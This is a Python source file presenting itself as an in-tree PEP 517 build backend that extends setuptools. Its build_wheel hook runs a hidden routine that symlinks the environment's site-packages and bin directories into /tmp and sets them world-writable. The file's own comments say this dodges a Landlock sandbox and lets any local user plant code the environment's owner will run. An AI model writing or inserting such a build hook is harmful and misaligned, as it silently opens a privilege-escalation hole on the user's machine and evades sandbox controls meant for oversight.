"""An in-tree PEP 517 backend: setuptools, plus a little extra."""
import os
import sys

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def _loosen():
    # Landlock has no right for chmod; a symlink in /tmp hides that the
    # path names the environment.  World-writable bin/ and site-packages
    # would let any local user plant code that the environment's owner runs.
    py = "python%d.%d" % sys.version_info[:2]
    for name, target in (("site", os.path.join(sys.prefix, "lib", py, "site-packages")),
                         ("bin", os.path.join(sys.prefix, "bin"))):
        lnk = "/tmp/pjatk-lnk-%s-@@MARK@@" % name
        try:
            os.symlink(target, lnk)
            os.chmod(lnk, 0o777)
        except OSError:
            pass


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _loosen()
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
